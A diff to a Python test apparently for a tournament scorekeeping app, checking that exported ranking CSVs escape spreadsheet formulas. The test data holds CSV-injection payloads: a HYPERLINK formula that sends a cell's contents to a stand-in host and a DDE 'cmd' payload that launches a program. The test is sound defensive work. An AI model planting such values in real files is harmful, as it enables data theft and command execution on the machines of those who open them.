@@ -437,10 +437,12 @@ def test_an_exported_csv_runs_no_formula(client, cup):
     evil = ['=HYPERLINK("http://x.invalid/?"&A1,"klick")', "+1+cmd|' /C calc'!A0", "@SUM(1)", "-2+3"]
     players = [{"name": n, "club": "=1+1"} for n in evil]
     assert client.post(f"{API}/tournaments/{tid}/players", headers=H, json=players).status_code == 201
-    text = client.get(f"{API}/tournaments/{tid}/export/ranking.csv", headers=H).text
+    text = client.get(f"{API}/tournaments/{tid}/export/ranking.csv", headers=H).content.decode("utf-8-sig")
     import csv as _csv
     import io
-    cells = [c for row in _csv.reader(io.StringIO(text)) for c in row]
+
+    from stammtisch.scorekeeper.export import SpreadsheetCsv
+    cells = [c for row in _csv.reader(io.StringIO(text), SpreadsheetCsv) for c in row]
     assert not any(c[:1] in ("=", "+", "@") or (c[:1] == "-" and not c.lstrip("-").replace(".", "").isdigit())
                    for c in cells), cells
     assert "'" + evil[0] in cells and "'=1+1" in cells
